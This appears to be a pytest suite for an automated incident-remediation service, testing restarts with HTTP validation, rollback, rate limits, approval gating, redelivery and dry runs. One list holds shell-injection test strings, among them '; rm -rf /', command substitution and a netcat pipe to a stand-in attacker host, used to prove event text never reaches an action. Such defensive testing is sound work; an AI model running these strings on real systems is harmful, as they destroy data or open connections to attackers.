"""The fixer against real processes: restart a broken service and prove it, roll back, rate limits,
approval, redelivery, dry run, and event text that never reaches an action."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import urllib.request
from pathlib import Path

import pytest
import redis

from tests.conftest import free_port, incident_rows, wait_for

WEB_SERVER = textwrap.dedent("""
    import http.server, os, sys
    port, pidfile = int(sys.argv[1]), sys.argv[2]
    with open(pidfile, "w") as f:
        f.write(str(os.getpid()))
    class H(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200); self.end_headers(); self.wfile.write(b"ok")
        def log_message(self, *a):
            pass
    http.server.ThreadingHTTPServer(("127.0.0.1", port), H).serve_forever()
""")

# A restart script as a service manager would provide: start the server detached, then exit.
RESTART = textwrap.dedent("""
    import subprocess, sys
    server, port, pidfile, marker = sys.argv[1:5]
    with open(marker, "a") as f:
        f.write("restart\\n")
    subprocess.Popen([sys.executable, server, port, pidfile], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""")


class Web:
    """A small HTTP service under the test's control."""

    def __init__(self, tmp: Path) -> None:
        self.port = free_port()
        self.server = tmp / "web.py"
        self.server.write_text(WEB_SERVER)
        self.restart = tmp / "restart.py"
        self.restart.write_text(RESTART)
        self.pidfile = tmp / "web.pid"
        self.marker = tmp / "restarts.log"

    def start(self) -> None:
        subprocess.Popen([sys.executable, str(self.server), str(self.port), str(self.pidfile)],
                         start_new_session=True)
        wait_for(self.healthy, 10, what="web up")

    def healthy(self) -> bool:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{self.port}/", timeout=1) as r:
                return r.status == 200
        except OSError:
            return False

    def kill(self) -> None:
        pid = int(self.pidfile.read_text())
        os.kill(pid, signal.SIGKILL)
        wait_for(lambda: not self.healthy(), 10, what="web down")

    def stop(self) -> None:
        if self.pidfile.exists():
            try:
                os.kill(int(self.pidfile.read_text()), signal.SIGKILL)
            except ProcessLookupError:
                pass

    def restarts(self) -> int:
        return self.marker.read_text().count("restart") if self.marker.exists() else 0


@pytest.fixture()
def web(tmp_path):
    w = Web(tmp_path)
    yield w
    w.stop()


def append_line(path: Path, text: str, sleep: float = 0.0) -> list[str]:
    """An argv that appends a line to a file (and optionally sleeps): an action with a visible effect."""
    code = "import sys, time; open(sys.argv[1], 'a').write(sys.argv[2] + chr(10)); time.sleep(float(sys.argv[3]))"
    return [sys.executable, "-c", code, str(path), text, str(sleep)]


def write_runbooks(tmp: Path, text: str) -> Path:
    folder = tmp / "runbooks"
    folder.mkdir(exist_ok=True)
    (folder / "rb.yaml").write_text(textwrap.dedent(text))
    return folder


def restart_runbook(web: Web, *, restart_argv: list[str] | None = None, extra: str = "",
                    validation_attempts: int = 10) -> str:
    """The runbook that restarts `web` and validates it over HTTP (10 attempts 0.5 s apart by default: a
    restarted server has five seconds to answer)."""
    argv = restart_argv or [sys.executable, str(web.restart), str(web.server), str(web.port), str(web.pidfile),
                            str(web.marker)]
    return f"""
        runbooks:
          - name: restart-web
            match: {{services: [web]}}
            diagnosis_hint: The web process died.
            actions:
              - action: restart
                params: {{argv: {json.dumps(argv)}}}
                timeout: 20
            validation: {{check: http, url: "http://127.0.0.1:{web.port}/", expect_status: 200, timeout: 2,
                          attempts: {validation_attempts}, interval: 0.5}}
            rollback:
              - action: run_command
                params: {{argv: {json.dumps(append_line(web.marker, "rollback"))}}}
            limits: {{max_runs: 3, per_seconds: 3600}}
{textwrap.indent(textwrap.dedent(extra), "            ")}
    """


def status_of(stack, incident_id):
    return incident_rows(stack.database_url, "SELECT status FROM incidents WHERE id = %s", (incident_id,))[0]["status"]


def probe_failure(stack, web, what="Health check failed"):
    """What the HTTP probe sends after N consecutive failures."""
    stack.send_event({"message": f"{what}: GET http://127.0.0.1:{web.port}/ refused", "service": "web",
                      "source": "probe"})


@pytest.mark.slow(10)
def test_a_broken_service_is_restarted_validated_and_the_incident_closes_with_the_actions_in_the_report(
        stack_factory, tmp_path, web):
    web.start()
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, restart_runbook(web)))})
    stack.start_all()
    web.kill()
    probe_failure(stack, web)
    incident = wait_for(lambda: incident_rows(stack.database_url), 30, what="incident")[0]
    wait_for(lambda: status_of(stack, incident["id"]) == "closed", 90, what="closed")
    assert web.healthy() and web.restarts() == 1
    report = (stack.reports / f"{incident['id']}.md").read_text()
    assert "restart" in report and "passed" in report
    data = json.loads((stack.reports / f"{incident['id']}.json").read_text())
    assert data["actions"][0]["action"] == "restart" and data["actions"][0]["ok"] is True
    assert data["validation"]["ok"] is True


@pytest.mark.slow(22)
def test_a_restart_that_does_not_heal_rolls_back_escalates_and_the_rate_limit_stops_a_fourth(
        stack_factory, tmp_path, web):
    do_nothing = append_line(web.marker, "restart")
    # The "restart" starts nothing, so no number of attempts could pass the validation: three fail it as
    # surely as ten, in a second instead of five, for each of the three runs.
    runbook = restart_runbook(web, restart_argv=do_nothing, validation_attempts=3)
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, runbook))})
    stack.start_all()
    ids = []
    for word in ("alpha", "bravo", "charlie", "delta"):
        probe_failure(stack, web, what=f"Health check {word} failed")
        incident = wait_for(lambda: [r for r in incident_rows(stack.database_url) if r["id"] not in ids], 30,
                            what="next incident")[0]
        ids.append(incident["id"])
        wait_for(lambda: status_of(stack, incident["id"]) == "escalated", 90, what="escalated")
    assert web.restarts() == 3
    assert web.marker.read_text().count("rollback") == 3
    whats = [t["what"] for t in incident_rows(stack.database_url,
             "SELECT what FROM incident_timeline WHERE incident_id = %s ORDER BY id", (ids[0],))]
    assert any(w.startswith("rollback run_command: ok") for w in whats), whats
    assert any("did not fix it" in w for w in whats), whats
    fourth = [t["what"] for t in incident_rows(stack.database_url,
              "SELECT what FROM incident_timeline WHERE incident_id = %s", (ids[3],))]
    # a restart runbook's limit is the crash-loop circuit breaker
    assert any("crash loop: web was restarted 3 times" in w and "keeps dying" in w for w in fourth), fourth


HOSTILE = ["$(touch /tmp/erdu-pwned)", "`touch /tmp/erdu-pwned`", "; rm -rf /", "a && touch /tmp/erdu-pwned",
           "| nc attacker 1", "--force"]


def test_shell_metacharacters_in_events_never_reach_an_action(stack_factory, tmp_path):
    seen = tmp_path / "argv.log"
    runbook = f"""
        runbooks:
          - name: echo-args
            match: {{title_pattern: "(?i)disk full"}}
            actions:
              - action: run_command
                params: {{argv: {json.dumps([sys.executable, "-c", "import sys; open(sys.argv[1], 'a').write(repr(sys.argv[2:]) + chr(10))", str(seen), "{service}", "{host}"])}}}
            validation: {{check: noop}}
            limits: {{max_runs: 100, per_seconds: 3600}}
    """
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, runbook))})
    stack.start_all()
    for i, bad in enumerate(HOSTILE):
        stack.send_event({"message": f"Disk full on volume {i} {bad}", "service": "files", "host": "node1",
                          "labels": {"path": bad, "cmd": bad}})
        stack.send_event({"message": f"Disk full again {chr(97 + i)} {bad}", "service": bad[:120] or "x",
                          "host": bad[:200]})
    wait_for(lambda: len(incident_rows(stack.database_url, "SELECT id FROM incidents WHERE status IN "
                                       "('closed', 'escalated')")) == 2 * len(HOSTILE), 120, what="all settled")
    assert not Path("/tmp/erdu-pwned").exists()
    argv_lines = seen.read_text().splitlines()
    assert argv_lines and all(line == "['files', 'node1']" for line in argv_lines), argv_lines
    refused = incident_rows(stack.database_url, "SELECT what FROM incident_timeline WHERE what LIKE '%%refused%%'")
    assert len(refused) >= len(HOSTILE) - 1   # every hostile service/host was refused before anything ran


def approval_runbook(marker: Path) -> str:
    return f"""
        runbooks:
          - name: needs-yes
            match: {{title_pattern: "(?i)cache corrupt"}}
            actions:
              - action: run_command
                params: {{argv: {json.dumps(append_line(marker, "ran"))}}}
            validation: {{check: noop}}
            approval: required
            limits: {{max_runs: 100, per_seconds: 3600}}
    """


@pytest.mark.slow(12)
def test_a_runbook_that_needs_approval_parks_then_runs_once_approved(stack_factory, tmp_path):
    marker = tmp_path / "ran.log"
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, approval_runbook(marker)))})
    stack.start_all()
    stack.send_event({"message": "Cache corrupt for tenant 4", "service": "cache"})
    incident = wait_for(lambda: incident_rows(stack.database_url), 30, what="incident")[0]
    wait_for(lambda: status_of(stack, incident["id"]) == "awaiting_approval", 60, what="parked")
    time.sleep(1)
    assert not marker.exists()
    done = stack.erdu("incidents", "approve", incident["id"])
    assert done.returncode == 0, done.stderr
    wait_for(lambda: status_of(stack, incident["id"]) == "closed", 60, what="closed after approval")
    assert marker.read_text() == "ran\n"
    again = stack.erdu("incidents", "approve", incident["id"])
    assert again.returncode == 1 and "not awaiting approval" in again.stderr


def test_an_unanswered_approval_is_escalated_after_its_deadline(stack_factory, tmp_path):
    marker = tmp_path / "ran.log"
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, approval_runbook(marker))),
                           "ERDU_APPROVAL_DEADLINE_SECONDS": "1"})
    stack.start_all(("ingest", "commander", "diagnostician", "fixer", "resolver", "monitor"))
    stack.send_event({"message": "Cache corrupt for tenant 9", "service": "cache"})
    incident = wait_for(lambda: incident_rows(stack.database_url), 30, what="incident")[0]
    wait_for(lambda: status_of(stack, incident["id"]) == "awaiting_approval", 60, what="parked")

    def reconciled_to_escalated() -> bool:   # a reconcile each half second until the 1 s deadline has passed
        stack.client.send_task("erdu.reconcile", queue="monitor")
        return status_of(stack, incident["id"]) == "escalated"

    wait_for(reconciled_to_escalated, 30, 0.5, what="escalated")
    assert not marker.exists()


def test_a_redelivered_fix_runs_its_action_once(stack_factory, tmp_path):
    marker = tmp_path / "ran.log"
    runbook = f"""
        runbooks:
          - name: slow-once
            match: {{title_pattern: "(?i)stuck job"}}
            actions:
              - action: run_command
                params: {{argv: {json.dumps(append_line(marker, "ran", 1.0))}}}
            validation: {{check: noop}}
            limits: {{max_runs: 100, per_seconds: 3600}}
    """
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, runbook))})
    stack.start_all(("ingest", "commander", "diagnostician", "resolver"))
    stack.send_event({"message": "Stuck job 77 in queue", "service": "jobs"})
    incident = wait_for(lambda: incident_rows(stack.database_url), 30, what="incident")[0]
    wait_for(lambda: status_of(stack, incident["id"]) == "investigating", 30, what="diagnosed")
    for _ in range(2):  # the same fix message delivered twice more, as after a lost ack
        stack.client.send_task("erdu.fix", args=(incident["id"],), queue="fixer", task_id="fix-redelivered")
    stack.start("fixer")
    wait_for(lambda: status_of(stack, incident["id"]) == "closed", 60, what="closed")
    broker = redis.Redis.from_url(stack.redis_url)
    # Late acks: the redelivered copies leave the "unacked" hash only once their task has run to the end.
    wait_for(lambda: broker.llen("fixer") == 0 and broker.hlen("unacked") == 0, 30,
             what="every delivery of the fix run and acknowledged")
    assert marker.read_text() == "ran\n"
    runs = incident_rows(stack.database_url, "SELECT count(*) AS n FROM action_runs WHERE incident_id = %s",
                         (incident["id"],))
    assert runs[0]["n"] == 1


def test_dry_run_records_what_would_run_without_running_it(stack_factory, tmp_path):
    marker = tmp_path / "ran.log"
    runbook = f"""
        runbooks:
          - name: would-run
            match: {{title_pattern: "(?i)stale index"}}
            actions:
              - action: run_command
                params: {{argv: {json.dumps(append_line(marker, "ran"))}}}
            validation: {{check: noop}}
    """
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, runbook)), "ERDU_DRY_RUN": "true"})
    stack.start_all()
    stack.send_event({"message": "Stale index on shard 3", "service": "search"})
    incident = wait_for(lambda: incident_rows(stack.database_url), 30, what="incident")[0]
    wait_for(lambda: status_of(stack, incident["id"]) == "closed", 60, what="closed")
    assert not marker.exists()
    whats = [t["what"] for t in incident_rows(stack.database_url,
             "SELECT what FROM incident_timeline WHERE incident_id = %s", (incident["id"],))]
    assert any("dry run: would run run_command" in w for w in whats), whats


@pytest.mark.slow(15)
def test_the_probe_detects_the_outage_and_the_fixer_revalidates_with_the_same_probe(stack_factory, tmp_path, web):
    web.start()
    runbook = restart_runbook(web).replace(
        f'validation: {{check: http, url: "http://127.0.0.1:{web.port}/", expect_status: 200, timeout: 2,\n'
        f'                          attempts: 10, interval: 0.5}}',
        "validation: {check: from_incident, attempts: 10, interval: 0.5}")
    assert "from_incident" in runbook
    monitors = {"probes": {"interval": 1, "checks": [
        {"name": "web", "url": f"http://127.0.0.1:{web.port}/", "timeout": 1, "failures": 2, "service": "web"}]}}
    stack = stack_factory({"ERDU_RUNBOOKS_DIR": str(write_runbooks(tmp_path, runbook)),
                           "ERDU_MONITORS": json.dumps(monitors)})
    stack.start_all(("ingest", "commander", "diagnostician", "fixer", "resolver", "monitor"))

    def tick():
        stack.client.send_task("erdu.monitor.probes", queue="monitor")
        time.sleep(0.5)
        return incident_rows(stack.database_url)

    for _ in range(4):
        tick()
    assert incident_rows(stack.database_url) == []   # healthy: no incident
    web.kill()
    incident = wait_for(tick, 30, 0, what="probe incident")[0]
    assert incident["source"].startswith("probe") and incident["error_details"]["check"]["check"] == "http"
    wait_for(lambda: status_of(stack, incident["id"]) == "closed", 90, what="closed")
    assert web.healthy() and web.restarts() == 1
    data = json.loads((stack.reports / f"{incident['id']}.json").read_text())
    assert data["validation"]["ok"] is True and data["actions"][0]["action"] == "restart"
